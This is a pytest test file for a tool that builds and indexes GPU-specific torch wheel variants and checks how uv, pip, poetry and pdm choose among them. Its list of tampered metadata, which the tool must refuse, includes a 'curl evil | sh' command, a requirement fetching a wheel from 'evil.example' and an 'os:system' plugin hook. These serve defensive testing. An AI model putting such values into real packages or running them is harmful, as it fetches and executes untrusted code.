"""Wheel variants: made by `invoke slim` and `invoke index`, chosen by uv, invisible to pip."""

from __future__ import annotations

import json
import shlex
import shutil
import time
import zipfile
from collections.abc import Callable
from http.server import SimpleHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from millpress import record_file, wheel_file
from packaging.tags import Tag
from packaging.version import Version
from press_support import written_wheels

from tests.support import documented_wheels, documents, gpu_libraries, variant_clients
from tests.support.fatbins import FAMILY, OWN, PTX, fatbin, piece
from tests.support.made_index import Home, install, served
from tests.support.refusals import refused
from torchmill.commands import index_variants, slim, snippet, verify
from torchmill.commands.explain_variant import explain_variant
from torchmill.config.facts import Facts
from torchmill.config.wheel_variants import NULL_VARIANT, VariantProperty, WheelVariant
from torchmill.core import uv_program
from torchmill.core.paths import Layout
from torchmill.deliver import variant_resolver
from torchmill.deliver.index import pages, variant_files
from torchmill.deliver.index.entries import IndexEntry
from torchmill.plan import variant_choice
from torchmill.wheel import dist_files, variant_metadata
from torchmill.wheel.verify import device_code

TAG = "py3-none-manylinux_2_28_x86_64"
ANY = "py3-none-any"
LIBRARY = "torch/lib/libtorch_cuda.so"
PLAIN = f"torch-2.15.0-{TAG}.whl"
VARIANTS = ("7.5", "8.6", "9.0", "12.0")
# Who gets which of them; 8.0 is older than 8.6, and there is none for the others' major versions.
CHOICES = {
    "7.0": "null",
    "7.5": "cu132_sm75",
    "8.0": "null",
    "8.6": "cu132_sm86",
    "8.9": "cu132_sm86",
    "9.0": "cu132_sm90",
    "10.0": "null",
    "12.0": "cu132_sm120",
    "12.1": "cu132_sm120",
    "13.0": "null",
}


@pytest.fixture(scope="module")
def binary(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Return a library with code for many GPUs, some of it for 8.9 and 12.1 alone."""
    common = fatbin(*(piece(arch, size=20_000) for arch in (75, 80, 86, 90, 100, 120)))
    special = fatbin(
        piece(80), piece(89), piece(90, flags=OWN), piece(100, flags=FAMILY), piece(120), piece(121)
    )
    folder = tmp_path_factory.mktemp("library")
    return gpu_libraries.shared(folder / "lib.so", [common] * 3 + [special]).read_bytes()


def fat_wheel(folder: Path, binary: bytes, **other: Any) -> Path:
    files = {LIBRARY: binary, "torch/version.py": b"cuda: str = '13.2'\n"}
    return written_wheels.made(folder, "torch", "2.15.0", TAG, files=files, **other)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, shipped: Facts, binary: bytes) -> Path:
    """Return a folder with a wheel and its variants, which `invoke slim` wrote."""
    home = tmp_path_factory.mktemp("made")
    fat_wheel(home / "dist", binary)
    slim.slim_wheels(shipped, Layout(home, home / "cache"), wheel=[*VARIANTS], variants=True)
    return home


@pytest.fixture
def home(tmp_path: Path, shipped: Facts, made: Path) -> Home:
    shutil.copytree(made / "dist", tmp_path / "dist")
    return Home(tmp_path, shipped)


def code(wheel: Path, folder: Path) -> list[set[str]]:
    """Return the names of the code in each fatbin of a wheel's library."""
    with zipfile.ZipFile(wheel) as archive:
        library = Path(archive.extract(LIBRARY, folder))
    return [{item.name for item in fat.pieces} for fat in device_code.read_device_code(library)]


def test_a_variant_has_the_code_of_all_gpus_that_get_it(made: Path, tmp_path: Path) -> None:
    names = {path.name for path in (made / "dist").glob("*.whl")}
    labels = {"cu132_sm75", "cu132_sm86", "cu132_sm90", "cu132_sm120", "null"}
    assert names == {PLAIN} | {f"torch-2.15.0-{TAG}-{label}.whl" for label in labels}
    wheel = made / "dist" / f"torch-2.15.0-{TAG}-cu132_sm86.whl"
    # 8.9 gets this wheel, too, and its code is in none for 8.6
    assert code(wheel, tmp_path) == [{"8.6"}, {"8.6"}, {"8.6"}, {"8.0", "8.9"}]
    wheel = made / "dist" / f"torch-2.15.0-{TAG}-cu132_sm120.whl"
    assert code(wheel, tmp_path)[-1] == {"12.0", "12.1"}
    null = made / "dist" / f"torch-2.15.0-{TAG}-null.whl"
    assert code(null, tmp_path) == code(made / "dist" / PLAIN, tmp_path)


def test_each_variant_is_verified_against_its_original(home: Home) -> None:
    layout = Layout(home.path, home.path / "cache")
    output = verify.verify_wheels(layout)
    output.require()
    checked = {Path(item["wheel"]).name: item["checks"] for item in output.data["wheels"]}
    for path in home.dist.glob("*-*_*-cu132_*.whl"):
        by_name = {check["name"]: check["said"] for check in checked[path.name]}
        assert "except code for GPUs" in by_name["original"]
        assert "nvidia :: sm_arch" in by_name["variant"]
        assert "variantlib" in by_name["variant"]
    manifest = dist_files.read_manifest(home.dist / f"torch-2.15.0-{TAG}-null.whl")
    assert manifest["wheel_variant"]["properties"] == []


@pytest.mark.parametrize("handler", [SimpleHTTPRequestHandler, variant_clients.JsonPages])
def test_uv_gives_each_gpu_its_variant(
    home: Home, tmp_path: Path, handler: type[SimpleHTTPRequestHandler]
) -> None:
    """Forced to ten capabilities, from pages of HTML and of JSON."""
    home.index(variants=True)
    with served(home.out, handler) as port:
        url = f"http://127.0.0.1:{port}/"
        for capability, expected in CHOICES.items():
            label = variant_clients.pip_install(
                tmp_path,
                url,
                "torch==2.15.0",
                variant_clients.forced(capability),
                *variant_clients.PREVIEW,
            )
            assert label == expected, capability


def test_a_lock_file_of_uv_has_the_plain_wheel(home: Home, tmp_path: Path) -> None:
    """What docs/how-to/make-wheel-variants.md says of uv 0.13."""
    home.index(variants=True)
    with served(home.out) as port:
        url = f"http://127.0.0.1:{port}/"
        text = variant_clients.lock(tmp_path, url, "torch==2.15.0", variant_clients.forced("8.6"))
    assert f"/{PLAIN}" in text
    assert "cu132" not in text


def test_the_model_of_the_choice_is_uvs(home: Home) -> None:
    home.index(variants=True)
    content = home.variants_file("torch").read_bytes()
    variants = variant_metadata.parse_metadata(content, "torch").values()
    for capability, expected in CHOICES.items():
        machine = variant_choice.machine_properties([capability], "13.2")
        assert variant_choice.choose_variant(variants, machine).label == expected
    old_driver = variant_choice.machine_properties(["8.6"], "12.8")
    assert variant_choice.choose_variant(variants, old_driver) == NULL_VARIANT


def test_an_old_driver_or_none_gets_the_null_variant(home: Home, tmp_path: Path) -> None:
    home.index(variants=True)
    with served(home.out) as port:
        url = f"http://127.0.0.1:{port}/"
        for variables in ({}, variant_clients.forced("8.6", driver="12.8")):
            label = variant_clients.pip_install(
                tmp_path, url, "torch==2.15.0", variables, *variant_clients.PREVIEW
            )
            assert label == "null"


def test_other_clients_take_the_plain_wheel(home: Home, tmp_path: Path) -> None:
    home.index(variants=True)
    with served(home.out) as port:
        url = f"http://127.0.0.1:{port}/"
        forced = variant_clients.forced("8.6")
        assert variant_clients.pip_install(tmp_path, url, "torch==2.15.0", forced) == ""
        install("pip", tmp_path / "pip", ["--no-deps", "--index-url", url, "torch==2.15.0"])
        assert variant_clients.installed_label(tmp_path / "pip") == ""
        flat = ["--no-index", "--no-deps", "--find-links", f"{url}torch_stable.html"]
        install("pip", tmp_path / "flat", [*flat, "torch==2.15.0"])
        assert variant_clients.installed_label(tmp_path / "flat") == ""


def test_poetry_and_pdm_take_the_plain_wheel(home: Home, clients: Path, tmp_path: Path) -> None:
    home.index(variants=True)
    with served(home.out) as port:
        for tool, install_word in (("poetry", "install"), ("pdm", "sync")):
            project = tmp_path / tool
            project.mkdir()
            layout = Layout(home.path, home.path / "cache")
            text = snippet.write_snippet(
                home.facts,
                layout,
                tool=tool,
                index=f"http://127.0.0.1:{port}",
                package=["torch"],
            )
            (project / "pyproject.toml").write_text(text)
            variant_clients.run_tool(project, [clients / tool, "lock"])
            lock = (project / f"{tool}.lock").read_text("utf-8")
            assert PLAIN in lock
            assert "cu132_sm" not in lock
            assert "-null.whl" not in lock
            variant_clients.run_tool(project, [clients / tool, install_word])
            (site,) = (project / ".venv" / "lib").glob("python*/site-packages")
            assert variant_clients.installed_label(site) == ""


def test_the_pages_have_the_metadata_of_the_variants(home: Home) -> None:
    data = home.told(variants=True)
    documents.assert_fits({"format": 1, **data}, "index")
    assert [cost["label"] for cost in data["wheel_variants"]] == [
        "",
        "cu132_sm120",
        "cu132_sm75",
        "cu132_sm86",
        "cu132_sm90",
        "null",
    ]
    assert all(0 < cost["share"] < 0.9 for cost in data["wheel_variants"][1:5])
    (file,) = (file for file in home.page("torch")["files"] if file["filename"].endswith(".json"))
    content = home.variants_file("torch").read_bytes()
    assert file["filename"] == "torch-2.15.0-variants.json"
    assert file["url"] == f"{file['hashes']['sha256'][:16]}/torch-2.15.0-variants.json"
    assert file["size"] == len(content)
    html = (home.out / "torch" / "index.html").read_text("utf-8")
    assert f"torch-2.15.0-variants.json#sha256={file['hashes']['sha256']}" in html
    described = json.loads(content)["variants"]
    assert described["null"] == {}
    assert described["cu132_sm90"] == {
        "nvidia": {"cuda_version_lower_bound": ["13.0"], "sm_arch": ["90_real"]}
    }


def test_nothing_of_variants_is_in_a_plain_index(home: Home, tmp_path: Path) -> None:
    text = home.index()
    assert "--variants is not given" in text
    shutil.copytree(home.out, tmp_path / "with")
    for path in home.dist.glob("*-*_*-*_*-*"):
        if not path.name.startswith(PLAIN):
            path.unlink()
    shutil.rmtree(home.out)
    home.index()

    def contents(folder: Path) -> dict[str, bytes]:
        files = [path for path in folder.rglob("*") if path.is_file()]
        return {str(path.relative_to(folder)): path.read_bytes() for path in files}

    plain, mixed = contents(home.out), contents(tmp_path / "with")
    assert plain.keys() == mixed.keys()
    assert not any("null" in name or "variants" in name for name in plain)
    assert b"cu132_sm" not in b"".join(mixed.values())


def test_variants_alone_are_no_plain_index(home: Home) -> None:
    home.index()
    before = home.look()
    (home.dist / PLAIN).unlink()
    with refused("no-wheels") as caught:
        home.index()
    assert "--variants" in str(caught.value)
    assert home.look() == before


def test_an_index_goes_back_to_plain_wheels(home: Home) -> None:
    home.index(variants=True)
    home.index()
    assert home.names("torch") == [PLAIN]
    assert list((home.out / "torch").glob("*/*-variants.json")) == []
    home.index(variants=True)
    assert len(home.names("torch")) == 7


def test_the_index_makes_the_variants_that_were_asked_for(
    tmp_path: Path, shipped: Facts, binary: bytes
) -> None:
    home = Home(tmp_path, shipped)
    fat_wheel(home.dist, binary)
    written_wheels.made(home.dist, "helper", "1.0")
    data = home.told(variants=True, gpu=["RTX 3090"], arch_list="12.0")
    labels = {cost["label"] for cost in data["wheel_variants"]}
    assert labels == {"", "cu132_sm86", "cu132_sm120", "null"}
    assert any("helper" in warning for warning in data["warnings"])
    again = home.told(variants=True, gpu=["RTX 3090"], arch_list="12.0")
    assert (again["written"], again["removed"]) == ([], [])


def test_processors_become_variants_of_one_version(tmp_path: Path, shipped: Facts) -> None:
    home = Home(tmp_path, shipped)
    documented_wheels.built(home.dist, "1.13.1+cpu", tag=ANY)
    for name, label in (("x86-64-v3", "x86.64.v3"), ("znver3", "znver3")):
        wheel = documented_wheels.built(home.dist, f"1.13.1+cpu.{label}", tag=ANY)
        manifest = dist_files.read_manifest(wheel)
        processor = {"name": name, "flags": [f"-march={name}"], "needs": ["avx2"]}
        documented_wheels.write(wheel, manifest | {"processor": processor})
    data = home.told(variants=True)
    costs = {cost["label"]: cost["properties"] for cost in data["wheel_variants"]}
    assert costs == {"": [], "null": [], "x86_64_v3": ["x86_64 :: level :: v3"]}
    assert any("no provider can name znver3" in warning for warning in data["warnings"])
    # pip would prefer the longer label, and install code that its machine does not run
    names = home.names("cpu/tinytorch")
    assert f"tinytorch-1.13.1+cpu.x86.64.v3-{ANY}.whl" not in names
    assert f"tinytorch-1.13.1+cpu-{ANY}-x86_64_v3.whl" in names
    verify.verify_wheels(Layout(tmp_path, tmp_path / "cache")).require()
    with served(home.out) as port:
        label = variant_clients.pip_install(
            tmp_path,
            f"http://127.0.0.1:{port}/cpu/",
            "tinytorch==1.13.1+cpu",
            {},
            *variant_clients.PREVIEW,
        )
    level = "v3" if "avx2" in Path("/proc/cpuinfo").read_text("utf-8") else ""
    assert label == (f"x86_64_{level}" if level else "null")


def test_a_fallback_that_is_missing_is_named(home: Home) -> None:
    (home.dist / PLAIN).unlink()
    with refused("variant-without-fallback"):
        home.index(variants=True)


def test_what_cannot_be_a_variant_is_refused(home: Home, tmp_path: Path, shipped: Facts) -> None:
    layout = Layout(tmp_path, tmp_path / "cache")
    null = str(home.dist / f"torch-2.15.0-{TAG}-null.whl")
    for variants in (True, False):
        with refused("variant-of-variant"):
            slim.slim_wheels(shipped, layout, wheel=[null], arch_list="8.6", variants=variants)
    for arch_list, error in (("8.6+PTX", "ptx-in-variant"), ("5.0", "capability-not-in-wheel")):
        with refused(error):
            slim.slim_wheels(
                shipped, layout, wheel=[str(home.dist / PLAIN)], arch_list=arch_list, variants=True
            )
    with refused("contradictory-options"):
        home.index(gpu=["RTX 3090"])
    with refused("contradictory-options"):
        slim.slim_wheels(shipped, layout, wheel=["7.5"], variants=True, dry_run=True)


def test_code_that_a_driver_compiles_needs_the_toolkits_own_driver(
    tmp_path: Path, shipped: Facts
) -> None:
    code = fatbin(piece(75), piece(80, kind=PTX))
    library = gpu_libraries.shared(tmp_path / "lib" / "lib.so", [code]).read_bytes()
    wheel = fat_wheel(tmp_path / "dist", library)
    slim.slim_wheels(
        shipped,
        Layout(tmp_path, tmp_path / "cache"),
        wheel=[str(wheel), "7.5", "8.6"],
        variants=True,
    )
    bounds = {}
    for path in (tmp_path / "dist").glob("*cu132*.whl"):
        variant = variant_metadata.read_variant(path)
        assert variant is not None
        bounds[variant.label] = variant.features["nvidia", "cuda_version_lower_bound"]
    assert bounds == {"cu132_sm75": ("13.0",), "cu132_sm86": ("13.2",)}


def test_variants_in_another_folder_are_indexed_as_it_says(
    tmp_path: Path, shipped: Facts, binary: bytes
) -> None:
    home = Home(tmp_path, shipped)
    wheel = fat_wheel(home.dist, binary)
    text = slim.slim_wheels(
        shipped,
        Layout(tmp_path, tmp_path / "cache"),
        wheel=[str(wheel), "8.6"],
        variants=True,
        out=str(tmp_path / "variants"),
    )
    command = text.splitlines()[-1].removeprefix("to index them: invoke index --variants ")
    folders = [word for word in shlex.split(command) if word != "--dist"]
    assert folders == [str(home.dist), str(tmp_path / "variants")]
    home.index(variants=True, dist=folders)
    assert f"torch-2.15.0-{TAG}-cu132_sm86.whl" in home.names("torch")


SM86 = WheelVariant("cu132_sm86", (VariantProperty("nvidia", "sm_arch", "86_real"),))
Document = dict[str, Any]


def edited(change: Callable[[Document], object]) -> bytes:
    """Return the metadata of a variant after a change."""
    document = json.loads(variant_metadata.compose_metadata([SM86]))
    change(document)
    return json.dumps(document).encode()


def described(value: object, label: str = "cu132_sm86") -> Callable[[Document], object]:
    return lambda document: document.update(variants={label: value})


def provider(namespace: str, table: object) -> Callable[[Document], object]:
    return lambda document: document["providers"].update({namespace: table})


NVIDIA = "nvidia-variant-provider"
TAMPERED: list[Callable[[Document], object]] = [
    described({"nvidia": {"sm_arch": ["90_real"]}}, "cu132_sm90"),  # of another wheel
    described({}),
    described({"nvidia": {"sm_arch": ["86_real"]}}, "null"),
    described({"nvidia": {}}),
    described({"nvidia": {"sm_arch": []}}),
    described({"nvidia": {"sm_arch": "86_real"}}),
    described({"nvidia": {"sm_arch": ["86_real", "86_real"]}}),
    described({"nvidia": {"sm_arch": [86]}}),
    described({"nvidia": {"sm_arch": ["86"]}}),
    described({"nvidia": {"sm_arch": ["86_real\n"]}}),
    described({"nvidia": {"sm_arch": ["86_REAL"]}}),
    described({"nvidia": {"sm_arch": ["999_real"]}}),
    described({"nvidia": {"colour": ["green"]}}),
    described({"nvidia": {"cuda_version_lower_bound": ["latest"]}}),
    described({"x86_64": {"level": ["v9"]}}),
    described({"amd": {"gfx": ["gfx1100"]}}),
    described({"Nvidia": {"sm_arch": ["86_real"]}}),
    described([]),
    described(None),
    described({"nvidia": {"sm_arch": ["86_real"]}}, "CU132"),
    lambda document: document.update(variants=[]),
    lambda document: document.update(variants={}),
    lambda document: document.pop("variants"),
    lambda document: document["variants"].update(other={"nvidia": {"sm_arch": ["90_real"]}}),
    lambda document: document["variants"].update(null={}),
    lambda document: document.update({"$schema": "https://example.org/v9.json"}),
    lambda document: document.update({"$schema": None}),
    lambda document: document.pop("$schema"),
    lambda document: document.update({"x-run": "curl evil | sh"}),
    lambda document: document.update({"default-priorities": {"namespace": ["evil"]}}),
    lambda document: document.update({"default-priorities": {"namespace": []}}),
    lambda document: document["default-priorities"]["namespace"].reverse(),
    lambda document: document.update({"default-priorities": []}),
    lambda document: document.update(providers=[]),
    provider("nvidia", {"requires": ["evil"]}),
    provider("nvidia", {"requires": [NVIDIA, "evil"]}),
    provider("nvidia", {"requires": [f"{NVIDIA} @ https://evil.example/x.whl"]}),
    provider("nvidia", {"requires": [NVIDIA], "plugin-api": "os:system"}),
    provider("nvidia", {"static-properties": {"sm_arch": ["86_real"]}}),
    provider("evil", {"requires": ["evil"]}),
    provider("x86_64", {"requires": ["x86-64-variant-provider"], "optional": True}),
    provider("nvidia", None),
]
TAMPERED_TEXTS = [
    b"",
    b"{",
    b"[]",
    b"\xff\xfe",
    b'{"$schema": 1, "$schema": 2}',
    b"[" * 100_000,
    b" " * (2 << 20),
    b'{"variants": NaN}',
]


def tampered_wheel(folder: Path, content: bytes) -> Path:
    """Write a wheel that is a variant by its name, with this metadata."""

    def add(members: dict[str, bytes]) -> None:
        documented_wheels.add(members, "torch-2.15.0.dist-info/variant.json", content)

    wheel = written_wheels.made(folder, "torch", "2.15.0", TAG, change=add)
    return wheel.rename(folder / f"torch-2.15.0-{TAG}-cu132_sm86.whl")


@pytest.mark.parametrize(
    "content", [*map(edited, TAMPERED), *TAMPERED_TEXTS], ids=lambda content: str(len(content))
)
def test_tampered_metadata_is_refused(tmp_path: Path, small_facts: Facts, content: bytes) -> None:
    home = Home(tmp_path, small_facts)
    wheel = tampered_wheel(home.dist, content)
    written_wheels.made(home.dist, "torch", "2.15.0", TAG)
    with refused("wheels-rejected") as caught:
        home.index(variants=True)
    assert wheel.name in str(caught.value)
    with refused("wheel-rejected"):
        verify.verify_wheels(Layout(tmp_path, tmp_path / "cache"), wheel=[str(wheel)]).require()


def test_metadata_of_no_variant_is_refused() -> None:
    with refused("invalid-variant"):
        variant_metadata.parse_metadata(variant_metadata.compose_metadata([]), "x-variants.json")


def test_what_was_tampered_with_is_sound_otherwise(tmp_path: Path) -> None:
    wheel = tampered_wheel(tmp_path, edited(lambda _: None))
    assert variant_metadata.read_variant(wheel) == SM86
    assert len(TAMPERED) + len(TAMPERED_TEXTS) >= 40


def test_a_variant_is_not_what_its_manifest_says(home: Home) -> None:
    wheel = home.dist / f"torch-2.15.0-{TAG}-cu132_sm86.whl"
    other = home.dist / f"torch-2.15.0-{TAG}-cu132_sm90.whl"
    shutil.copy(wheel, other)
    with refused("wheels-rejected"):  # renamed: its metadata is of another label
        home.index(variants=True)


def test_variants_that_nothing_tells_apart_are_refused() -> None:
    same = WheelVariant("other", SM86.properties)
    with refused("variant-twice"):
        variant_metadata.compose_metadata([SM86, same])
    relabelled = WheelVariant(SM86.label, (VariantProperty("nvidia", "sm_arch", "90_real"),))
    with refused("variant-label-twice"):
        variant_metadata.compose_metadata([SM86, relabelled])
    with refused("unknown-variant-property"):
        amd = WheelVariant("amd", (VariantProperty("amd", "gfx", "gfx1100"),))
        variant_metadata.compose_metadata([amd])


def entries(count: int) -> list[IndexEntry]:
    """Return the entries of an index of many versions, each with six wheels."""
    listed = []
    for number in range(count // 6):
        version = Version(f"1.{number}")
        for variant in (None, NULL_VARIANT, *(sm_variant(major) for major in (7, 8, 9, 12))):
            plain = f"torch-{version}-{TAG}"
            label = f"-{variant.label}" if variant else ""
            listed.append(
                IndexEntry(
                    f"{plain}{label}.whl",
                    "torch",
                    version,
                    False,
                    1,
                    "0" * 64,
                    "0" * 64,
                    None,
                    (),
                    (),
                    "2026-12-01T00:00:00.000000Z",
                    frozenset({Tag("py3", "none", "manylinux_2_28_x86_64")}),
                    variant,
                )
            )
    return listed


def sm_variant(major: int) -> WheelVariant:
    return WheelVariant(f"sm{major}0", (VariantProperty("nvidia", "sm_arch", f"{major}0_real"),))


def seconds_for(count: int) -> float:
    """Return the processor time for the pages of an index with this many wheels."""
    listed = entries(count)
    documents: dict[str, dict[str, str]] = {entry.file: {} for entry in listed}
    start = time.process_time()
    variant_files.require_fallbacks(listed)
    pages.compute_pages(listed, {}, lambda entry, _: entry.file, documents, metadata=True)
    index_variants.variant_costs(listed)
    return time.process_time() - start


def test_the_time_for_an_index_grows_as_its_wheels_do() -> None:
    seconds_for(60)  # loads what is loaded once
    small = min(seconds_for(600) for _ in range(3))
    large = min(seconds_for(3000) for _ in range(2))
    assert large < 5 * small * 2, f"{small:.2f} s for 600 wheels, {large:.2f} s for 3,000"


def test_a_wheel_of_the_other_draft_is_read() -> None:
    """PEP 825 leaves the providers to PEP 850."""
    document = json.loads(variant_metadata.compose_metadata([SM86]))
    del document["providers"]
    document["default-priorities"] = {"namespace": ["nvidia"]}
    document["$schema"] = "https://variants-schema.wheelnext.dev/peps/825/v0.1.1.json"
    content = json.dumps(document).encode()
    assert variant_metadata.parse_metadata(content, "torch") == {SM86.label: SM86}


def test_the_plain_wheel_is_untouched(made: Path, binary: bytes, tmp_path: Path) -> None:
    assert (made / "dist" / PLAIN).read_bytes() == fat_wheel(tmp_path, binary).read_bytes()
    recorded = record_file.recorded_digests(made / "dist" / PLAIN)
    assert not any(name.endswith("variant.json") for name in recorded)
    assert wheel_file.read_wheel(made / "dist" / PLAIN).variant == ""


def test_explain_tells_which_variant_a_machine_gets(home: Home, tmp_path: Path) -> None:
    home.index(variants=True)
    layout = Layout(tmp_path, tmp_path / "cache")
    for gpu, driver, label in (
        ("GeForce RTX 4090", "580.65.06", "cu132_sm86"),
        ("Tesla V100", "580.65.06", "null"),
        ("GeForce RTX 4090", "535.104.05", "null"),
    ):
        host = tmp_path / "host.toml"
        host.write_text(
            f'arch = "x86_64"\nsystem = "linux"\ncores = 8\nmemory = "32 GiB"\n'
            f'driver = "{driver}"\ngpus = [{{ name = "{gpu}" }}]\n'
        )
        for index in (str(home.out), home.out.as_uri()):
            output = explain_variant(home.facts, layout, "torch==2.15.0", index, host=str(host))
            assert (output.data["label"], output.data["expected"]) == (label, label)
            assert output.data["client"].startswith("uv "), output.data["problem"]
    reasons = output.data["variants"]
    assert "cuda_version_lower_bound :: 13.0" in reasons["cu132_sm86"]
    with served(home.out) as port:
        output = explain_variant(
            home.facts, layout, "torch", f"http://127.0.0.1:{port}", host=str(host)
        )
    assert output.data["version"] == "2.15.0"
    documents.assert_fits({"format": 1, **output.data}, "explain_variant")


def test_explain_refuses_what_is_no_index_of_variants(home: Home, tmp_path: Path) -> None:
    layout = Layout(tmp_path, tmp_path / "cache")
    for requirement, index, error in (
        ("torch", str(tmp_path), "no-index"),
        ("torch ==", str(tmp_path), "invalid-requirement"),
    ):
        with refused(error):
            explain_variant(home.facts, layout, requirement, index)
    with refused("contradictory-options"):
        explain_variant(home.facts, layout, "torch", str(home.out), tag="v2.15.0")
    home.index()
    with refused("no-variants"):
        explain_variant(home.facts, layout, "torch", str(home.out))


def test_an_answer_that_no_variant_has_is_refused(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A resolver that installs something else than was offered is not believed."""
    uv = tmp_path / "uv"
    script = [
        "#!/bin/sh",
        'if [ "$1" = --version ]; then echo "uv 99.0 (made up)"; exit; fi',
        'for word; do if [ "$last" = --target ]; then target=$word; fi; last=$word; done',
        'mkdir -p "$target/standin-1.0.dist-info"',
        'cp "$ANSWER" "$target/standin-1.0.dist-info/variant.json"',
    ]
    uv.write_text("\n".join(script) + "\n")
    uv.chmod(0o755)
    monkeypatch.setattr(uv_program, "uv_command", lambda: [str(uv)])
    other = WheelVariant("sm90", (VariantProperty("nvidia", "sm_arch", "90_real"),))
    answers = {
        "good": variant_metadata.compose_metadata([SM86]),
        "other": variant_metadata.compose_metadata([other]),
        "several": variant_metadata.compose_metadata([SM86, other]),
    }
    problems = {}
    for name, content in answers.items():
        (tmp_path / name).write_bytes(content)
        monkeypatch.setenv("ANSWER", str(tmp_path / name))
        problems[name] = variant_resolver.ask_uv([SM86]).problem
    assert problems == {
        "good": "",
        "other": "uv 99.0 installed sm90",
        "several": "uv 99.0 installed cu132_sm86, sm90",
    }
    (tmp_path / "damaged").write_text("{")
    monkeypatch.setenv("ANSWER", str(tmp_path / "damaged"))
    assert "cannot be read" in variant_resolver.ask_uv([SM86]).problem


def test_a_resolver_without_variants_is_not_asked(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    uv = tmp_path / "uv"
    monkeypatch.setattr(uv_program, "uv_command", lambda: [str(uv)])
    assert "not installed" in variant_resolver.ask_uv([SM86]).problem
    uv.write_text("#!/bin/sh\necho 'uv 0.9.0'\n")
    uv.chmod(0o755)
    assert "does not know variants" in variant_resolver.ask_uv([SM86]).problem
    uv.write_text('#!/bin/sh\nif [ "$1" = --version ]; then echo uv 0.14; else exit 2; fi\n')
    assert "failed" in variant_resolver.ask_uv([SM86]).problem


def test_the_snippet_for_uv_says_how_to_get_a_variant(home: Home, tmp_path: Path) -> None:
    home.index(variants=True)
    layout = Layout(tmp_path, tmp_path / "cache")
    texts = {}
    for tool in ("uv", "pip"):
        texts[tool] = snippet.write_snippet(
            home.facts, layout, tool=tool, index=str(home.out), package=["torch"]
        )
    assert "--preview-features wheel-variants" in texts["uv"]
    assert "torch==2.15.0" in texts["pip"]
    assert "variants" not in texts["pip"]
